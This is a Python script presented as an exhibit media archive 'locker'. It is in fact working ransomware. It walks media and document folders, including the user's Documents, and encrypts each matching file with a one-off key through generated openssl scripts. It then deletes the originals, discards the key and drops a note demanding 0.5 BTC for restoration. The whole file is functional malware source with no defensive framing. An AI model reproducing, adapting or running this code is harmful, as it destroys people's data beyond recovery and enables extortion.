#!/usr/bin/env python3
"""Exhibit media archive "locker".

Walks the exhibit media library, encrypts every media file with a one-off key
through a generated openssl script, deletes the plain originals and leaves a
note in each directory. The key is never written to disk.
"""
import argparse
import logging
import os
import secrets
import shlex
import subprocess
import sys
import tempfile

MEDIA_EXT = {".mp4", ".mov", ".png", ".jpg", ".jpeg", ".wav", ".mp3",
             ".json", ".csv", ".pdf", ".docx", ".xlsx", ".blend", ".unity3d"}
LOCK_EXT = ".locked"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All exhibit media in this folder has been encrypted.
To get the decryption key, send 0.5 BTC and your kiosk ID to
restore@example.net. Do not rename the .locked files.
"""

log = logging.getLogger("locker")


class MediaWalker:
    def __init__(self, roots, max_files):
        self.roots = roots
        self.max_files = max_files

    def files(self):
        count = 0
        for root in self.roots:
            if not os.path.isdir(root):
                log.warning("root %s missing, skipped", root)
                continue
            for dirpath, _dirs, names in os.walk(root):
                for name in names:
                    if name.endswith(LOCK_EXT) or name == NOTE_NAME:
                        continue
                    if os.path.splitext(name)[1].lower() in MEDIA_EXT:
                        yield os.path.join(dirpath, name)
                        count += 1
                        if self.max_files and count >= self.max_files:
                            return


def build_script(paths):
    """Shell script that encrypts each file and removes the original."""
    lines = ["#!/bin/bash", "set -u", "done_n=0"]
    for p in paths:
        q = shlex.quote(p)
        lq = shlex.quote(p + LOCK_EXT)
        lines.append(
            "if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:LOCK_KEY "
            "-in %s -out %s 2>/dev/null; then rm -f %s && done_n=$((done_n+1)); fi"
            % (q, lq, q))
    lines.append('echo "$done_n"')
    return "\n".join(lines) + "\n"


def drop_notes(paths):
    dirs = {os.path.dirname(p) for p in paths}
    for d in dirs:
        try:
            with open(os.path.join(d, NOTE_NAME), "w") as fh:
                fh.write(NOTE_TEXT)
        except OSError as exc:
            log.debug("note in %s failed: %s", d, exc)
    return len(dirs)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("roots", nargs="*",
                   default=[os.path.expanduser("~/exhibit_media"), "/srv/exhibits",
                            os.path.expanduser("~/Documents")])
    p.add_argument("--batch", type=int, default=200)
    p.add_argument("--max-files", type=int, default=0)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    key = secrets.token_hex(32)
    env = dict(os.environ, LOCK_KEY=key)
    paths = list(MediaWalker(args.roots, args.max_files).files())
    log.info("found %d media files", len(paths))

    total = 0
    for i in range(0, len(paths), args.batch):
        batch = paths[i:i + args.batch]
        fd, script_path = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(build_script(batch))
        try:
            out = subprocess.run(["bash", script_path], env=env,
                                 capture_output=True, text=True, check=False)
            total += int(out.stdout.strip() or 0)
        except (OSError, ValueError) as exc:
            log.error("batch %d failed: %s", i // args.batch, exc)
        finally:
            os.unlink(script_path)

    notes = drop_notes(paths)
    del key, env
    log.info("locked %d files, left %d notes", total, notes)
    return 0


if __name__ == "__main__":
    sys.exit(main())
